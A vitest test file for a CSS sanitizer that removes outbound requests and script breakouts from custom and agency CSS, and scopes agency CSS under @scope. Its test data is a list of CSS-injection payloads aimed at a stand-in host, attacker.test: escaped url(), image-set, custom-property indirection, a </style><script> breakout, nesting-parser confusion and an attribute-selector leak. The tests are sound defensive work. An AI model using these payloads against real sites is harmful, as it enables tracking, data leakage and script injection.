import { expect, test } from 'vitest';
import { cleanCustomCss, scopeAgencyCss } from './clean-css.ts';

const forbidden = [
  '@import url(https://attacker.test/a.css);',
  '@import "https://attacker.test/a.css";',
  '@font-face { font-family: x; src: url(https://attacker.test/f.woff2) }',
  '.a { background: url(https://attacker.test/pixel) }',
  '.a { background: URL("//attacker.test/pixel") }',
  ".a { background: \\75rl('https://attacker.test/pixel') }",
  '.a { background-image: image-set("https://attacker.test/a.png" 1x) }',
  '.a { --x: url(https://attacker.test/pixel); background: var(--x) }',
  '.a { width: expression(alert("attacker.test")) }',
  '.a { behavior: url(attacker.test) }',
  '</style><script src="https://attacker.test"></script>',
  '@media screen { .a { cursor: url(https://attacker.test/c.cur), auto } }',
  '.a{& ; background:url(https://attacker.test/p.png); x {color:red}}',
  '.a{& ; background:\\75\\72\\6c(https://attacker.test/p.png); x {color:red}}',
  '.a{& ; background:image-set("https://attacker.test/p.png" 1x); x {color:red}}',
  '& ; background:url(https://attacker.test/p.png); x {color:red}',
  '@media ; & {} url(https://attacker.test/p.png) { .a {color:red} }',
  '@supports (background:url(https://attacker.test/p.png)) and ; { .a {color:red} }',
  '.a { & b ; } .b[value^="a"] { ; background: url(https://attacker.test/a) }',
  '@namespace url(https://attacker.test/ns);',
];

test.each(forbidden)('custom CSS cannot reach out: %s', (css) => {
  const cleaned = cleanCustomCss(css);
  expect(cleaned).not.toContain('attacker.test');
  expect(cleaned).not.toContain('<');
});

test('custom CSS keeps the rest where one rule cannot be read', () => {
  expect(cleanCustomCss('.a{& ; background:url(https://attacker.test/p.png); x {color:red}} .b{color:blue}')).toContain(
    '.b{color:blue}',
  );
});

test('custom CSS keeps what only changes the look', () => {
  const css = '.bubble{color:red;--gap:4px}@media (max-width:480px){.bubble{padding:var(--gap)}}';
  expect(cleanCustomCss(css)).toBe(css);
  expect(cleanCustomCss('.a{background:url(data:image/png;base64,AA==)}')).toContain('data:image/png');
  expect(cleanCustomCss('.a{color:red} }}} .b{color:blue}')).toContain('.a{color:red}');
});

test.each(forbidden)('nor can an agency’s: %s', (css) => {
  const { css: cleaned } = scopeAgencyCss(css);
  expect(cleaned).not.toContain('attacker.test');
  expect(cleaned).not.toContain('<');
});

test('an agency’s CSS stays within its scope, which stands for the page', () => {
  expect(scopeAgencyCss('html body .card, :root > .card, body{color:red} .card:hover{color:blue}').css).toBe(
    '@scope ([data-agency-css]){:scope .card,:scope .card,:scope{color:red}.card:hover{color:blue}}',
  );
  expect(scopeAgencyCss('@media print{:root{color:red}}').css).toBe(
    '@scope ([data-agency-css]){@media print{:scope{color:red}}}',
  );
  for (const css of [
    '.a{color:red} } .b{color:blue}',
    '.a{color:red}}',
    '}} .a{}',
    '@media screen{.a{color:red}}}}',
    '.a{"}"',
    '/* } */ .a{color:red}',
    '@layer a;} .b{color:red}',
  ]) {
    const { css: cleaned } = scopeAgencyCss(css);
    let depth = 0;
    for (const [index, sign] of [...cleaned.replace(/"[^"]*"/g, '')].entries()) {
      if (sign === '{') depth += 1;
      if (sign === '}') depth -= 1;
      expect(depth > 0 || index < 26 || sign === '}', cleaned).toBe(true);
    }
    expect(depth, cleaned).toBe(0);
  }
  expect(scopeAgencyCss('  ')).toEqual({ css: '', leftOut: [] });
});

test('what is left out is named by its line, at most 50 of it', () => {
  const { css, leftOut } = scopeAgencyCss(
    '.a { color: red }\n@import url(https://attacker.test/a.css);\n.b {\n  background: url(https://attacker.test/b);\n  color: blue\n}',
  );
  expect(css).toBe('@scope ([data-agency-css]){.a{color:red}.b{color:blue}}');
  expect(leftOut).toEqual([
    { line: 2, text: '@import url(https://attacker.test/a.css);' },
    { line: 4, text: 'background: url(https://attacker.test/b)' },
  ]);
  expect(scopeAgencyCss('.a{background:url(https://attacker.test)}'.repeat(1_000)).leftOut).toHaveLength(50);
});
